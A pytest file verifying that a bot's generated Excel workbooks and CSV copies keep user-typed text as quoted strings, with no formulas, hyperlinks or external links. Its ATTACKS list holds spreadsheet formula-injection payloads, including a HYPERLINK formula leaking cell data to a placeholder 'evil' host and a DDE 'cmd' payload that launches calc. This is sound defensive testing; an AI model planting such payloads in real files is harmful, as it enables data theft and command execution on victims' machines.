"""Whatever a person typed stays text in every workbook the bot writes, and in a csv saved from one."""

import io
import re
from collections.abc import Iterator
from fractions import Fraction
from zipfile import ZipFile

import openpyxl
import pytest

from metrics.channels import Channel, ChannelKind, ChannelPlan, channel_plan
from services.example import example_segment
from spreadsheets.mapping import UploadAnswers
from spreadsheets.opening import CHAT_LIMITS
from workbooks.annotation import annotate
from workbooks.look import Book
from workbooks.plan import channel_plan_workbook, plan_workbook
from workbooks.plan_orders import ChannelBook, ChannelFacts, Heading, PlanBook

ATTACKS = (
    '=HYPERLINK("http://evil/?"&A1,"Карты")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "http://evil",
    "<b>&amp;</b>",
)

STARTS = tuple("=+-@\t\r\n")


def plan_of(attack: str) -> bytes:
    forecast = example_segment(2027).forecast()
    return plan_workbook(PlanBook(heading(attack), forecast, channels(attack), (attack,)))


def channel_plan_of(attack: str) -> bytes:
    facts = ChannelFacts(attack, patients=(5, *[None] * 11))
    return channel_plan_workbook(ChannelBook(heading(attack), channels(attack), (facts,)))


def copy_of(attack: str) -> bytes:
    quoted = attack.replace('"', '""')
    csv = f'Номер карты;Дата визита;Канал\n1;вчера;"{quoted}"\n2;01.02.2026;"{quoted}"\n'
    return annotate(csv.encode(), UploadAnswers(), "ru", CHAT_LIMITS).content


def heading(attack: str) -> Heading:
    return Heading(2027, attack, "ru", "RUB")


def channels(attack: str) -> ChannelPlan:
    named = (
        Channel(name=attack, kind=ChannelKind.MARKETING, new_patients=5),
        Channel(name=attack * 2, kind=ChannelKind.NATURAL, new_patients=5),
    )
    return channel_plan(444, named, conversion=Fraction(3, 10))


WRITERS = {"the plan": plan_of, "the plan of channels": channel_plan_of, "a copy of a csv": copy_of}


def parts(content: bytes, name: str) -> Iterator[str]:
    with ZipFile(io.BytesIO(content)) as archive:
        for part in archive.namelist():
            if re.fullmatch(name, part):
                yield archive.read(part).decode()


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("writer", WRITERS)
def test_a_text_is_never_a_formula(writer: str, attack: str) -> None:
    content = WRITERS[writer](attack)
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    mine = [cell for cell in cells if isinstance(cell.value, str) and attack.strip() in cell.value]
    assert mine
    assert {cell.data_type for cell in mine} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)
    formulas = {str(cell.value) for cell in cells if cell.data_type == "f"}
    assert all(re.fullmatch(r'=IF\(COUNT\([A-Z0-9:,*SUMIF("<>)]+=0,"",.*\)', formula) for formula in formulas)


@pytest.mark.parametrize("attack", [text for text in ATTACKS if text[0] in STARTS])
@pytest.mark.parametrize("writer", WRITERS)
def test_a_text_that_looks_like_a_formula_is_quoted(writer: str, attack: str) -> None:
    """Quoted, it is not run when the cell is edited or copied either."""
    book = openpyxl.load_workbook(io.BytesIO(WRITERS[writer](attack)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    texts = [cell for cell in cells if cell.data_type == "s"]
    mine = [cell for cell in texts if str(cell.value).replace("_x000D_", "\r").startswith(STARTS)]
    assert mine
    assert all(cell.quotePrefix for cell in mine)


def test_charts_name_their_series_by_cells_and_not_by_typed_words() -> None:
    for writer in (plan_of, channel_plan_of):
        charts = list(parts(writer("=1+1"), r"xl/charts/chart\d+\.xml"))
        assert charts
        assert not any(f"<c:f>{'=1+1'}" in chart for chart in charts)


def test_no_workbook_refers_to_anything_outside() -> None:
    for writer in WRITERS.values():
        content = writer(ATTACKS[0])
        assert not list(parts(content, r".*externalLink.*|.*connections.*|.*vbaProject.*"))
        assert not any("TargetMode" in part for part in parts(content, r".*\.rels"))


def test_a_text_longer_than_a_cell_is_cut() -> None:
    book = Book()
    book.text(book.sheet("a"), 0, 0, "=" * 40_000)
    sheet = openpyxl.load_workbook(io.BytesIO(book.content())).worksheets[0]
    assert len(str(sheet["A1"].value)) == 32_767
